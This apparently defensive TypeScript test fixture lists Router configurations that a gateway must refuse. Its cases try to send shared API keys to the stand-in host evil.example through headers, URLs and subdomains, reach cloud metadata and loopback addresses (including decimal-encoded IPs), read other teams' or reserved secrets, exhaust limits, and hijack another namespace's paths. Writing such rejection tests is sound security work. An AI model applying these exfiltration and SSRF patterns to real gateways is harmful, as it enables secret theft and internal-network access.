import { ATTACKER, fromSecret, GATEWAYS, router, VICTIM } from './attacks-under-test.ts'

/** A Router that must be refused. */
export type Attack = {
  /** The attack's name, which is the Router's, too. */
  readonly name: string
  /**
   * Condition and reason of the refusal, such as `Accepted=False/PathConflict` or `ResolvedRefs=False/RefNotPermitted`.
   */
  readonly refusal: string
  /** The message that the Router's author reads. */
  readonly says: RegExp
  readonly object: object
}

function attack(name: string, [refusal, says]: readonly [string, RegExp], spec: object): Attack {
  return { name, refusal, says, object: router(ATTACKER, name, { path: `/${ATTACKER}/${name}/`, ...spec }) }
}

const NOT_PERMITTED = 'ResolvedRefs=False/RefNotPermitted'
const to = (url: string, headers: object = { 'Api-Key': ['${KEY}'] }) => ({ outbound: { url, headers } })
const at = (gateway: string) => ({ gatewayRef: { name: gateway, namespace: GATEWAYS } })
const ELSEWHERE: readonly [string, RegExp] = [NOT_PERMITTED, /\$\{KEY\} may not be sent to this host/]
const NO_HEADER: readonly [string, RegExp] = [NOT_PERMITTED, /\$\{KEY\} is a shared secret/]
const RESERVED: readonly [string, RegExp] = [NOT_PERMITTED, /is reserved/]
const TAKEN: readonly [string, RegExp] = ['Accepted=False/PathConflict', /An older Router holds/]

const keys: readonly Attack[] = [
  attack('to-own-server', ELSEWHERE, to('https://evil.example/')),
  attack('to-longer-host', ELSEWHERE, to('https://res.example.evil.example/')),
  attack('without-tls', ELSEWHERE, to('http://res.example/')),
  attack('to-other-port', ELSEWHERE, to('https://res.example:8443/')),
  attack('by-own-variable', ELSEWHERE, {
    ...to('https://${HOST}/'),
    env: [fromSecret('HOST', 'mine', 'evil')],
  }),
  attack(
    'user-info',
    [NOT_PERMITTED, /may not be sent to this host: its sharedEnv entry lists others in hosts \(and 1 more\)/],
    to('https://res.example@evil.example/'),
  ),
  attack(
    'host-header',
    [NOT_PERMITTED, /Host header/],
    to('https://res.example/', { 'Api-Key': ['${KEY}'], Host: ['evil.example'] }),
  ),
  attack('told-by-callers', NO_HEADER, {
    ...to('https://res.example/', {}),
    ingress: { headers: { 'X-A': ['${KEY}'] } },
  }),
  attack('in-address', NO_HEADER, to('https://evil.example/?key=${KEY}', {})),
  attack('in-host', NO_HEADER, to('https://${KEY}.evil.example/', {})),
  attack('in-endpoint', NO_HEADER, { outbound: { url: 'https://evil.example/', endpoint: 'v1?key=${KEY}' } }),
  attack(
    'of-another-team',
    [NOT_PERMITTED, /\$\{KEY_OF_A\} is not shared with namespace team-b/],
    to('https://res.example/', { 'Api-Key': ['${KEY_OF_A}'] }),
  ),
  attack(
    'text-of-gateway',
    [NOT_PERMITTED, /\$\{ONLY_SAME\} is not shared/],
    to('https://evil.example/', { 'X-A': ['${ONLY_SAME}'] }),
  ),
  attack(
    'of-process',
    [NOT_PERMITTED, /\$\{PROCESS_KEY\} is for the gateway's process/],
    to('https://evil.example/', { 'X-A': ['${PROCESS_KEY}'] }),
  ),
  attack(
    'environment',
    ['ResolvedRefs=False/VariableNotFound', /\$\{PATH\} is not set/],
    to('https://evil.example/', { 'X-A': ['${PATH}'] }),
  ),
  attack('bus-token', RESERVED, to('https://evil.example/', { 'X-A': ['${NATS_TOKEN}'] })),
  attack('gui-secret', RESERVED, to('https://evil.example/', { 'X-A': ['${GUI_SECRET}'] })),
  attack('value-by-name', RESERVED, to('https://evil.example/', { 'X-A': ['${V_96a554ac1f36f144}'] })),
  attack('robot', [NOT_PERMITTED, /Secret \S+\/robot is the token of a service account/], {
    ...to('https://evil.example/', { 'X-A': ['${ROBOT}'] }),
    env: [fromSecret('ROBOT', 'robot', 'token')],
  }),
  attack('secret-of-victim', ['ResolvedRefs=False/SecretNotFound', /Secret \S+\/own does not exist/], {
    ...to('https://evil.example/', { 'X-A': ['${A}'] }),
    env: [fromSecret('A', 'own', 'key')],
  }),
  attack('secret-of-gateway', ['ResolvedRefs=False/SecretNotFound', /Secret \S+\/main-values does not exist/], {
    ...to('https://evil.example/', { 'X-A': ['${A}'] }),
    env: [fromSecret('A', 'main-values', 'REVISION')],
  }),
]

const values: readonly Attack[] = [
  attack('header-lines', ['ResolvedRefs=False/InvalidValue', /visible ASCII and spaces only/], {
    ...to('https://evil.example/', { 'X-A': ['${A}'] }),
    env: [fromSecret('A', 'mine', 'lines')],
  }),
  attack(
    'own-user-info',
    ['ResolvedRefs=False/InvalidUrl', /a URL with a user name or password is refused/],
    to('https://u:p@evil.example/', {}),
  ),
  attack('metadata', ['ResolvedRefs=False/HostNotAllowed', /never called/], to('http://169.254.169.254/latest/', {})),
  attack(
    'metadata-as-number',
    ['ResolvedRefs=False/HostNotAllowed', /never called/],
    to('http://2852039166/latest/', {}),
  ),
  attack('loopback', ['ResolvedRefs=False/HostNotAllowed', /never called/], to('http://127.0.0.1:9464/status', {})),
  attack('loopback-as-number', ['ResolvedRefs=False/HostNotAllowed', /never called/], to('http://2130706433:80/', {})),
  attack('not-allowed-host', ['ResolvedRefs=False/HostNotAllowed', /allows no calls to this host/], {
    ...at('picky'),
    ...to('https://evil.example/', {}),
  }),
  attack('allowed-host-by-header', ['ResolvedRefs=False/HostNotAllowed', /a Host header is refused/], {
    ...at('picky'),
    ...to('https://res.example/', { Host: ['evil.example'] }),
  }),
  attack('whole-file', ['Programmed=False/CapacityExceeded', /more than 16384 characters/], {
    ...to('https://evil.example/', { 'X-A': ['${A}'] }),
    env: [fromSecret('A', 'mine', 'large')],
  }),
  attack('whole-memory', ['Programmed=False/CapacityExceeded', /more than 16384 characters/], {
    ...to('https://evil.example/', { 'X-A': ['${A}'.repeat(256)] }),
    env: [fromSecret('A', 'mine', 'large')],
  }),
  attack('whole-time', ['Programmed=False/CapacityExceeded', /more than 256 references/], {
    ...to('https://evil.example/', { 'X-A': ['${A}'.repeat(1_024)] }),
    env: [fromSecret('A', 'mine', 'large')],
  }),
  attack(`n${'a'.repeat(38)}n`, ['ResolvedRefs=False/SecretNotFound', /…$/], {
    ...to('https://evil.example/', { [`X-${'A'.repeat(120)}`]: [`\${${'B'.repeat(120)}}`] }),
    env: [fromSecret('B'.repeat(120), 'c'.repeat(250), 'd'.repeat(250))],
  }),
]

const paths: readonly Attack[] = [
  attack('of-victim', ['Accepted=False/PathNotAllowed', /begin with \/team-b\//], { path: `/${VICTIM}/chat/` }),
  attack('below-victim', ['Accepted=False/PathNotAllowed', /begin with \/team-b\//], {
    path: `/${VICTIM}/chat/deep/`,
  }),
  attack('above-victim', ['Accepted=False/PathNotAllowed', /begin with \/team-b\//], { path: `/${VICTIM}/` }),
  attack('root', ['Accepted=False/PathReserved', /is reserved/], { path: '/' }),
  attack('echo', ['Accepted=False/PathReserved', /is reserved/], { path: '/echo/' }),
  attack('replay-of-victim', ['Accepted=False/PathReserved', /is reserved/], { path: `/mock/${VICTIM}/chat/` }),
  attack('equal-at-open', TAKEN, { ...at('open'), path: '/service/chat/' }),
  attack('below-at-open', TAKEN, { ...at('open'), path: '/service/chat/restricted/' }),
  attack('above-at-open', TAKEN, { ...at('open'), path: '/service/' }),
  attack('at-closed', ['Accepted=False/NotAllowedByGateway', /does not admit the namespace team-b/], at('closed')),
]

export const attacks: readonly Attack[] = [...keys, ...values, ...paths]
